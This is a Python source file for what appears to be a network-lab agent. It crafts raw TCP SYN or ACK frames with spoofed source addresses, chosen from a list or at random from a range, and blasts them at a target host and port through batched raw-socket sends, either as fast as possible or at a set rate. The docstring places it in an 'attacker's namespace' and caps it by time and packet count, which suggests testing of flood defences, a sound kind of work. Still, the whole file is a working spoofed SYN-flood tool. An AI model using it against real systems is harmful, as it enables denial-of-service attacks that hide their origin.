"""Raw TCP frames as fast as the CPU hands them to the interface, or at a paced rate.

A lab agent (agent.py) in the attacker's namespace; its spec:

    {"interface": "eth0", "gateway_mac": "aa:..", "destination": "192.0.2.1", "port": 443,
     "flags": "S", "sources": ["198.51.100.7"] or {"random": "198.18.0.0/15"}, "rate": 0,
     "seconds": 5, "max_packets": 2000000}

Frames are built before the clock starts and handed to the kernel in batches of 256 with sendmmsg(2)
(through ctypes: the standard library has no sendmmsg), about ten times what one send() per frame reaches
in Python. A blocking AF_PACKET socket waits when the gateway pushes back, so on a veth the rate is what
the gateway absorbs. Bounded by `seconds` and `max_packets`; its outcome is {"sent": N, "seconds": S}.
"""
import array
import ctypes
import ipaddress
import json
import random
import socket
import struct
import sys
import time

import agent

BATCH = 256


def checksum(data):
    total = sum(array.array("H", data + b"\0" * (len(data) % 2)))
    total = (total >> 16) + (total & 0xFFFF)
    return ~(total + (total >> 16)) & 0xFFFF


def syn_frame(ethernet, source, destination, port, rng, flags):
    """An Ethernet+IPv4+TCP frame from `source` (4 bytes) with the TCP flags given (S: SYN, A: ACK)."""
    bits = (0x02 if "S" in flags else 0) | (0x10 if "A" in flags else 0)
    tcp = struct.pack("!HHIIBBHHH", 1024 + rng.getrandbits(15), port, rng.getrandbits(32),
                      rng.getrandbits(32) if "A" in flags else 0, 5 << 4, bits, 64240, 0, 0)
    pseudo = source + destination + struct.pack("!BBH", 0, 6, len(tcp))
    tcp = tcp[:16] + struct.pack("H", checksum(pseudo + tcp)) + tcp[18:]
    ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(tcp), rng.getrandbits(16), 0, 64, 6, 0, source, destination)
    ip = ip[:10] + struct.pack("H", checksum(ip)) + ip[12:]
    return ethernet + ip + tcp


def sources_of(spec, rng, count):
    """The source address of each frame, as 4 bytes: a list cycled in order, or random in a network."""
    if isinstance(spec, dict):
        network = ipaddress.ip_network(spec["random"])
        base, size = int(network.network_address), network.num_addresses
        return [struct.pack("!I", base + rng.randrange(size)) for _ in range(count)]
    addresses = [socket.inet_aton(a) for a in spec]
    return [addresses[i % len(addresses)] for i in range(count)]


class IOVec(ctypes.Structure):
    _fields_ = [("base", ctypes.c_void_p), ("length", ctypes.c_size_t)]


class MsgHdr(ctypes.Structure):
    _fields_ = [("name", ctypes.c_void_p), ("namelen", ctypes.c_uint32), ("iov", ctypes.POINTER(IOVec)),
                ("iovlen", ctypes.c_size_t), ("control", ctypes.c_void_p), ("controllen", ctypes.c_size_t),
                ("flags", ctypes.c_int)]


class MMsgHdr(ctypes.Structure):
    _fields_ = [("header", MsgHdr), ("length", ctypes.c_uint)]


def main():
    spec = json.loads(sys.argv[1])
    rng = random.Random(spec.get("seed", 1))
    sock = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
    sock.bind((spec["interface"], 0))
    ethernet = bytes.fromhex(spec["gateway_mac"].replace(":", "")) + sock.getsockname()[4] + b"\x08\x00"
    destination = socket.inet_aton(spec["destination"])
    # Enough distinct frames that a cycle of them spreads evenly over the sources; a multiple of BATCH.
    distinct = spec.get("distinct", 8192)
    distinct = max(BATCH, (distinct + BATCH - 1) // BATCH * BATCH)
    frames = [syn_frame(ethernet, s, destination, spec["port"], rng, spec.get("flags", "S"))
              for s in sources_of(spec["sources"], rng, distinct)]
    size = len(frames[0])
    buffer = ctypes.create_string_buffer(b"".join(frames))
    base = ctypes.addressof(buffer)
    iovecs = (IOVec * distinct)(*[IOVec(base + i * size, size) for i in range(distinct)])
    batches = []
    for first in range(0, distinct, BATCH):
        messages = (MMsgHdr * BATCH)()
        for j in range(BATCH):
            messages[j].header.iov = ctypes.pointer(iovecs[first + j])
            messages[j].header.iovlen = 1
        batches.append(messages)

    libc = ctypes.CDLL(None, use_errno=True)
    sendmmsg = libc.sendmmsg
    fd = sock.fileno()
    rate, seconds, limit = float(spec.get("rate", 0)), float(spec["seconds"]), int(spec["max_packets"])
    agent.start()
    sent, batch, start = 0, 0, time.monotonic()
    deadline = start + seconds
    while sent < limit:
        now = time.monotonic()
        if now >= deadline:
            break
        if rate > 0:
            ahead = start + sent / rate - now
            if ahead > 0:
                time.sleep(min(ahead, deadline - now))
                continue
        count = sendmmsg(fd, batches[batch], min(BATCH, limit - sent), 0)
        if count <= 0:
            time.sleep(0.0001)  # ENOBUFS: the queue is full, the gateway is behind
            continue
        sent += count
        if count == BATCH:
            batch = (batch + 1) % len(batches)
    agent.finish({"sent": sent, "seconds": round(time.monotonic() - start, 3)})


if __name__ == "__main__":
    main()
